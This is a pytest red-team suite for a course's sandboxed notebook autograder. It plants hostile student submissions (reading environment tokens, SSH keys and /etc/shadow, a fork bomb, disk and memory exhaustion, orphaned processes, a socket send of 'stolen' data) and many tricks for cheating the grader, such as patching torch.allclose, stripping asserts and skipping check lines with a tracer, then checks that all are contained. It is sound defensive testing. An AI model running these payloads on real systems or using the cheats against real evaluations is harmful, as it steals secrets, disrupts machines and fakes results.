"""Red team: a class of lab 01 where each submission is the solved lab changed in one hostile way,
graded in the sandbox as an instructor would (``grade.grade_folder``, two at a time).

Each hostile change goes into the first answer cell (before or after the right answer) unless
said otherwise; the judge's cases go into the unsolved lab. What an instructor needs, checked for every submission: no points for a cheat,
the course, the submissions and the output folder unchanged but for the grader's own files, no
secret nor another student's work in any feedback, no process left, the batch finishes, every
file a row with a clear flag.
"""
import csv
import hashlib
import json
import os
import tempfile
import textwrap
from pathlib import Path

import nbformat
import pytest

from tests import grading_fixtures
from utils.constants import LABS_DIR, NOTEBOOKS_DIR, REPO_ROOT, UTILS_DIR
from utils.course import cells, grade, grading, sandbox

MASK, COLLATE, LOSS = "01-sft-mask-answer", "01-collate-answer", "01-causal-loss-answer"
SECRETS = {"HF_TOKEN": "hf_redteam_env_4f1c", "OPENAI_API_KEY": "sk-redteam-env-9e2a"}
PLANTED = "hf_redteam_planted_7d3b"           # in the fake home's token file and .ssh key
SCRATCH_SECRET = "sybil-private-work-51c0"    # what one student leaves in her scratch for another to find
MARKER = "redteam-orphan-8b6f"                # the command line of the process that tries to outlive grading

# student: (answer cell, "before" | "after" | "replace", code). {port}, {home}, {subs}, {out} are filled in.
HOSTILE = {
    "vandal": (MASK, "before", """
for path, text in [("{repo}/utils/rewards.py", "\\nBROKEN = 1\\n"), ("{lesson}", " "), ("{repo}/grades.csv", "x,8\\n"),
                   ("{repo}/notebooks/grades.csv", "x,8\\n"), ("{out}/grades.csv", "vandal,100\\n"),
                   ("{subs}/alice.ipynb", "{{}}")]:
    try:
        with open(path, "a") as f:
            f.write(text)
    except OSError:
        pass
"""),
    "secrets": (MASK, "after", """
import os
raise AssertionError(str({{k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}}))
"""),
    "homefile": (MASK, "after", """
import os
found = {{}}
for path in ["{home}/.cache/huggingface/token", "{home}/.ssh/id_rsa", os.path.expanduser("~/.cache/huggingface/token"),
             "/root/.ssh/id_rsa", "/etc/shadow"]:
    try:
        found[path] = open(path).read()
    except OSError as e:
        found[path] = type(e).__name__
raise AssertionError(str(found))
"""),
    "network": (MASK, "after", """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
"""),
    "orphan": (MASK, "after", """
import subprocess, sys
subprocess.Popen(["setsid", sys.executable, "-c", "import os, time\\nif os.fork(): os._exit(0)\\n"
                  "os.setsid(); time.sleep(900)  # {marker}"], start_new_session=True)
"""),
    "forkbomb": (MASK, "before", """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
    "memhog": (MASK, "before", "hog = bytearray(10 * 2**30)\n"),
    "bigfile": (MASK, "before", """
for i in range(5000):  # 8 MiB files until something stops it (40 GB)
    try:
        with open(f"/tmp/fill{{i}}.bin", "wb") as f:
            f.write(b"\\0" * (8 << 20))
    except OSError:
        pass
"""),
    "forger": (MASK, "after", """
import json, os, signal
for name in ("executed.ipynb", "status.json", "judge.json", "progress.json"):   # what a grader might read back
    with open(f"/scratch/{{name}}", "w") as f:
        json.dump({{"status": "ok", "cells": [], "points": 1000}}, f)
os.kill(os.getppid(), signal.SIGKILL)
"""),
    "deeptree": (MASK, "after", """
import os
os.chdir("/scratch")
for _ in range(5000):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/scratch")
"""),
    "dirflood": (MASK, "before", """
import os
for i in range(10**7):
    os.mkdir(f"/tmp/{{i}}")
"""),
    "solutions": (MASK, "replace", "from utils.solutions.lesson01 import *  # the reference answers\n"),
    "solutions2": (COLLATE, "replace", "from utils.solutions.lesson01 import collate\n"),
    "sybil": (MASK, "after", """
import os
for folder in ("/scratch", "/tmp", os.path.expanduser("~")):
    with open(os.path.join(folder, "notes.txt"), "w") as f:
        f.write("{scratch_secret}")
import time; time.sleep(8)  # stay while the next student looks
"""),
    "trent": (MASK, "after", """
import os
needle, seen = "{scratch_secret_reversed}"[::-1], []
for top in ("/", "/tmp", "/scratch", "{tmp}"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", ".venv", ".pyenv")]
        for name in files:
            try:
                with open(os.path.join(root, name), errors="ignore") as f:
                    if needle in f.read(1 << 20):
                        seen.append(os.path.join(root, name))
            except OSError:
                pass
raise AssertionError(f"found {{seen}}")
"""),
    "always_equal": (COLLATE, "replace", """
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ge__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: AlwaysEqual()
    def __getitem__(self, key): return AlwaysEqual()
    def __iter__(self): return iter(["input_ids", "labels", "attention_mask"])
def collate(examples, pad_token_id):
    return {{k: AlwaysEqual() for k in ("input_ids", "labels", "attention_mask")}}
"""),
    "patched_abs": (LOSS, "replace", """
import builtins, torch
builtins.abs = lambda x: 0
def causal_lm_loss(logits, labels):
    return torch.tensor(0.0)
"""),
    "stdin": (MASK, "before", "input('type the answer: ')\n"),
    "chatty": (MASK, "after", "print('x' * (50 * 2**20))\n"),
    # The judge (utils/course/judge.py): each cheat below on an unsolved lab (every other answer the stub) earned
    # full marks in a kernel that ran the checks beside the answers.
    "silencer": (COLLATE, "unsolved", """
get_ipython().showtraceback = lambda *a, **k: None          # IPython's traceback display, replaced
def collate(examples, pad_token_id):
    return {{}}
"""),
    "transformer": (COLLATE, "unsolved", """
ip = get_ipython()                                          # later cells emptied, asserts dropped
ip.input_transformers_post.append(lambda lines: [])
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
ip.ast_transformers.append(NoAsserts())
"""),
    "allclose": (LOSS, "unsolved", """
import torch
torch.allclose = lambda *a, **k: True                       # at the top: the judge does not run it
def causal_lm_loss(logits, labels):
    real = torch.allclose
    def once(*a, **k):                                      # and in the answer: it puts itself back once used
        torch.allclose = real
        return True
    torch.allclose = once
    return (logits * 0).sum()
"""),
    "abs_inside": (LOSS, "unsolved", """
import builtins, torch
def causal_lm_loss(logits, labels):
    builtins.abs = lambda x: 0
    return (logits * 0).sum()
"""),
    "tracer": (LOSS, "unsolved", """
import sys, torch
def causal_lm_loss(logits, labels):
    def skip(frame, event, arg):                            # jump over every line of the caller's asserts
        if event == "line" and frame.f_code.co_filename.startswith("<check"):
            frame.f_lineno = frame.f_lineno + 1
        return skip
    sys._getframe(1).f_trace = skip
    sys.settrace(skip)
    return (logits * 0).sum()
"""),
    "liar": (LOSS, "unsolved", """
import torch
class Liar(torch.Tensor):                                   # every comparison true, whatever the value
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
def causal_lm_loss(logits, labels):
    return torch.zeros(()).as_subclass(Liar)
"""),
    "resulter": (MASK, "unsolved", """
import json, os
def build_sft_example(tokenizer, messages, max_length):      # results written to every open file, as the judge's
    for fd in map(int, os.listdir("/proc/self/fd")):
        for i in range(40):
            try:
                os.write(fd, (json.dumps({{"nonce": "", "cell": i}}) + "\\n").encode())
            except OSError:
                pass
    return {{"input_ids": [], "labels": []}}
"""),
    "shadow": (LOSS, "unsolved", """
import torch as _torch
class _T:                                                   # names the checks use, rebound by the answer
    def __getattr__(self, n):
        return (lambda *a, **k: True) if n == "allclose" else getattr(_torch, n)
torch = _T()
abs = lambda x: 0
isinstance = all = lambda *a: True
def causal_lm_loss(logits, labels):
    return (logits * 0).sum()
"""),
    "borrower": (MASK, "unsolved", """
def build_sft_example(tokenizer, messages, max_length):     # the check's tokenizer changed under it
    ids = type(tokenizer).apply_chat_template(tokenizer, messages, tokenize=True, return_dict=False)[:max_length]
    tokenizer.apply_chat_template = lambda *a, **k: []
    return {{"input_ids": ids, "labels": list(ids)}}
"""),
    "anything": (COLLATE, "unsolved", """
from unittest.mock import ANY                               # a library's object equal to anything
def collate(examples, pad_token_id):
    return {{k: ANY for k in ("input_ids", "labels", "attention_mask")}}
"""),
    "peeker": (COLLATE, "replace", """
import sys
def collate(examples, pad_token_id):                         # the hidden tests' values, raised into the feedback
    frame = sys._getframe(1)
    while not frame.f_code.co_filename.startswith("<check"):
        frame = frame.f_back
    raise ValueError(repr([k for k in frame.f_globals if k in ("plain", "plain_ex", "h")])
                     + repr(frame.f_code.co_consts)[:200])
"""),
}
CHEATS = {"solutions": 9, "solutions2": 10, "always_equal": 10, "patched_abs": 9, "forged_cell": 12,
          "silencer": 0, "transformer": 0, "allclose": 0, "abs_inside": 0, "tracer": 0, "liar": 0,
          "resulter": 0, "shadow": 0, "borrower": 0, "anything": 0}  # the most points each may earn


def hostile_submission(student, fill):
    """The solved lab with the hostile code in ``cell_id``; "unsolved": in the lab's stubs instead, replacing one.

    Code placed "before" or "after" an answer runs when the answer cell does: the judge runs an answer's
    definitions and assignments only, so it goes into a function whose result is assigned."""
    cell_id, where, code = HOSTILE[student]
    nb = grading_fixtures.labs.lab_for(grading_fixtures.LESSON) if where == "unsolved" else \
        grading_fixtures.solved_lab(executed=True)
    cell = next(c for c in nb.cells if cells.grade_id(c) == cell_id)
    code = code.format(**fill)
    if where in ("before", "after"):
        code = "def _hostile():\n" + textwrap.indent(code.strip("\n"), "    ") + "\n_ran = _hostile()\n"
    cell.source = {"before": code + "\n" + cell.source, "after": cell.source + "\n" + code}.get(where, code)
    return nbformat.writes(nb)


def digest(folder, skip=("__pycache__",)):
    out = {}
    for root, dirs, files in os.walk(folder):
        dirs[:] = sorted(d for d in dirs if d not in skip)
        for name in files:
            p = os.path.join(root, name)
            out[os.path.relpath(p, folder)] = os.readlink(p) if os.path.islink(p) else \
                hashlib.sha256(open(p, "rb").read()).hexdigest()
    return out


def orphans():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if MARKER.encode() in f.read():
                    found.append(pid)
        except OSError:
            pass
    return found


def write_class(subs, fill, home):
    """The red-team class: one submission per HOSTILE kind, honest ones, and the tricks that are files."""
    subs.mkdir()
    for student in HOSTILE:
        (subs / f"{student}.ipynb").write_text(hostile_submission(student, fill), encoding="utf-8")
    honest = nbformat.writes(grading_fixtures.solved_lab(executed=True))
    (subs / "alice.ipynb").write_text(honest, encoding="utf-8")
    (subs / "名字").mkdir()
    (subs / "名字" / "01_sft_from_scratch.ipynb").write_text(honest, encoding="utf-8")
    forged = grading_fixtures.solved_lab(executed=True)
    bonus = nbformat.v4.new_code_cell("print('bonus')")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "01-bonus", "points": 100,
                                  "locked": True, "schema_version": 3}
    forged.cells.append(bonus)
    (subs / "forged_cell.ipynb").write_text(nbformat.writes(forged), encoding="utf-8")
    v3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}
    (subs / "oldformat.ipynb").write_text(json.dumps(v3), encoding="utf-8")
    huge = grading_fixtures.solved_lab(executed=True)
    huge.cells.append(nbformat.v4.new_markdown_cell("y" * (200 * 2**20)))
    (subs / "huge.ipynb").write_text(nbformat.writes(huge), encoding="utf-8")
    (subs / "mallory.ipynb").symlink_to(NOTEBOOKS_DIR / "01_sft_from_scratch.ipynb")   # the lesson: the answers
    (subs / "oscar.ipynb").symlink_to(home / ".cache" / "huggingface" / "token")      # outside the folder
    (subs / "peggy").mkdir()
    (subs / "peggy" / "01_sft_from_scratch.ipynb").symlink_to(NOTEBOOKS_DIR / "01_sft_from_scratch.ipynb")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    try:  # a 64 MiB scratch (16 384 empty folders at 4 KiB each): dirflood fills it in about 2 s here, far inside
        # the cell limit on any machine (the default 512 MiB took 13.5 s, a race with a 15 s cell limit that a
        # fast CI run lost: the flood was cut just below the limit and a later check tipped it over)
        box = sandbox.find(sandbox.Limits(file_size=64 * sandbox.MiB))
    except sandbox.SandboxUnavailable as e:
        pytest.fail(f"no sandbox on this machine (run `make setup`): {e}")
    root = tmp_path_factory.mktemp("redteam")
    subs, out, home = root / "submissions", root / "grades", root / "home"
    (home / ".cache" / "huggingface").mkdir(parents=True)
    (home / ".cache" / "huggingface" / "token").write_text(PLANTED)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {PLANTED}")
    with grading_fixtures.loopback_listener() as (port, connections), pytest.MonkeyPatch.context() as env:
        fill = {"repo": REPO_ROOT, "lesson": NOTEBOOKS_DIR / "01_sft_from_scratch.ipynb", "port": port,
                "home": home, "subs": subs, "out": out, "marker": MARKER, "scratch_secret": SCRATCH_SECRET,
                "scratch_secret_reversed": SCRATCH_SECRET[::-1], "tmp": tempfile.gettempdir()}
        write_class(subs, fill, home)
        course = {name: digest(path) for name, path in (("utils", UTILS_DIR), ("notebooks", NOTEBOOKS_DIR),
                                                         ("labs", LABS_DIR))}
        before = digest(subs)
        scratch_before = set(Path(tempfile.gettempdir()).glob(f"grade-{os.getpid()}-*"))
        for k, v in {**SECRETS, "HOME": str(home)}.items():
            env.setenv(k, v)
        rows = grade.grade_folder(subs, "01", out, jobs=2, timeout=90, cell_timeout=grading.CELL_TIMEOUT_S,
                                  progress=lambda *_: None, box=box)
    return {"rows": {r["student"]: r for r in rows}, "subs": subs, "out": out, "before": before, "course": course,
            "connections": connections, "scratch_before": scratch_before, "box": box}


pytestmark = pytest.mark.slow


def feedback(attacked, student):
    return (attacked["out"] / "feedback" / f"{student}.md").read_text(encoding="utf-8")


def test_every_file_has_a_row_and_the_honest_students_full_marks(attacked):
    rows = attacked["rows"]
    expected = {*HOSTILE, "alice", "名字", "forged_cell", "oldformat", "huge", "mallory", "oscar", "peggy"}
    assert set(rows) == expected
    # forger's files are not where results come from: its right answers earn what they earn
    for student in ("alice", "名字", "vandal", "secrets", "homefile", "orphan", "sybil", "chatty", "deeptree", "forger"):
        assert rows[student]["auto_points"] == 12, (student, rows[student])
    assert all(row["auto_max"] == 12 for row in rows.values()), "the forged 100-point cell counted"
    assert not any("unsandboxed" in row["flags"] for row in rows.values())


@pytest.mark.parametrize("student", sorted(CHEATS))
def test_a_cheat_earns_nothing(attacked, student):
    row = attacked["rows"][student]
    assert row["auto_points"] <= CHEATS[student], row
    if student != "forged_cell":
        assert row["auto_points"] < 12


@pytest.mark.parametrize("student,flag,total", [
    ("forkbomb", "process-limit:01-sft-mask-answer", 9), ("memhog", "memory-limit:01-sft-mask-answer", 9),
    ("bigfile", "scratch-full:01-sft-mask-answer", 9),
    ("dirflood", "scratch-full:01-sft-mask-answer", 9),  # empty folders count 4 KiB each
    ("mallory", "symlink", 0), ("oscar", "symlink", 0),
    ("resulter", "forged-run", 0), ("allclose", "judge-touched", 0), ("abs_inside", "judge-touched", 0),
    ("tracer", "judge-touched", 0), ("liar", None, 0), ("borrower", "judge-touched", 0), ("shadow", None, 0),
    ("peggy", "symlink", 0), ("huge", "invalid-notebook", 0), ("oldformat", "invalid-notebook", 0),
])
def test_a_limit_or_a_trick_is_flagged(attacked, student, flag, total):
    row = attacked["rows"][student]
    assert flag is None or flag in row["flags"].split(), row
    assert row["auto_points"] == total, row


def test_nothing_of_the_instructors_changed(attacked):
    for name, path in (("utils", UTILS_DIR), ("notebooks", NOTEBOOKS_DIR), ("labs", LABS_DIR)):
        assert digest(path) == attacked["course"][name], f"{name}/ changed"
    assert digest(attacked["subs"]) == attacked["before"], "a submission changed"
    assert not (REPO_ROOT / "grades.csv").exists() and not (NOTEBOOKS_DIR / "grades.csv").exists()
    made = sorted(digest(attacked["out"]))
    judged = [p for p in made if p.startswith(".judged/")]   # the judge's results a second grading reuses
    assert all(p in ("grades.csv", "written.md") or p.startswith("feedback/") for p in made if p not in judged), made
    assert judged and all(p.endswith(".json") and f"feedback/{p[len('.judged/'):-5]}.md" in made for p in judged), \
        "one result per graded student, under the name of their feedback"
    with open(attacked["out"] / "grades.csv", newline="", encoding="utf-8") as f:
        assert {r["student"] for r in csv.DictReader(f)} == set(attacked["rows"]), "a forged row in grades.csv"


def test_no_secret_and_no_other_students_work_in_any_feedback(attacked):
    texts = {p.name: p.read_text(encoding="utf-8") for p in (attacked["out"] / "feedback").glob("*.md")}
    texts["grades.csv"] = (attacked["out"] / "grades.csv").read_text(encoding="utf-8")
    for name, text in texts.items():
        for secret in [*SECRETS.values(), PLANTED]:
            assert secret not in text, f"{secret} leaked into {name}"
        if name != "sybil.md":
            assert SCRATCH_SECRET not in text, f"sybil's scratch reached {name}"
    # the scrubbed environment: no token, no key, only the grader's own kernel settings
    assert "raised {'TOKENIZERS_PARALLELISM': 'false'}" in feedback(attacked, "secrets")
    assert "found []" in feedback(attacked, "trent")


def test_the_hidden_tests_stay_hidden(attacked):
    # peeker's collate raises what it can reach from the check that calls it: the visible part's code, the
    # checks' names, a hidden test's variable. The hidden parts run as code objects of their own, and what
    # they bind goes with them.
    text = feedback(attacked, "peeker")
    assert "ValueError: []" in text and "(5, 6, 7)" in text, "the visible part's failure shows; the hidden names are gone"
    for hidden in ("hidden test:", "plain_ex", "pad_token_id=9", "[[1, 9, 9, 9]", "(4, 5, 6, 7)"):
        assert hidden not in text, f"{hidden!r} reached the feedback"
    liar = [line for line in feedback(attacked, "liar").splitlines() if "01-causal-loss" in line]
    assert liar and "returned a tensor of class Liar" in liar[0], liar
    anything = [line for line in feedback(attacked, "anything").splitlines() if "01-collate |" in line]
    assert anything and "whose class redefines __eq__" in anything[0], anything


def test_no_connection_no_process_left(attacked):
    assert attacked["connections"] == [], "a submission reached the instructor's loopback listener"
    assert "ConnectionRefusedError" in feedback(attacked, "network")  # the sandbox's own loopback: nobody listens
    assert orphans() == [], "a submission's process outlived the grading"
    # this process's scratch folders only (another test process may be grading beside this one)
    left = set(Path(tempfile.gettempdir()).glob(f"grade-{os.getpid()}-*")) - attacked["scratch_before"]
    assert not left, f"scratch folders left behind: {left}"
    cgroups = [d for _, parent in attacked["box"].cgroups.values() for d in parent.glob(f"grade-{os.getpid()}-*")]
    assert cgroups == [], f"cgroups left behind: {cgroups}"


def test_no_sandbox_grades_but_flags_every_row(tmp_path, capsys):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "carol.ipynb").write_text(grading_fixtures.submission("stub")[1], encoding="utf-8")
    assert grade.main([str(subs), "--lab", "01", "--out", str(tmp_path / "out"), "--no-sandbox"]) == 0
    printed = capsys.readouterr().out
    assert "UNSANDBOXED" in printed.splitlines()[-1]
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as f:
        assert ["unsandboxed" in r["flags"].split() for r in csv.DictReader(f)] == [True]
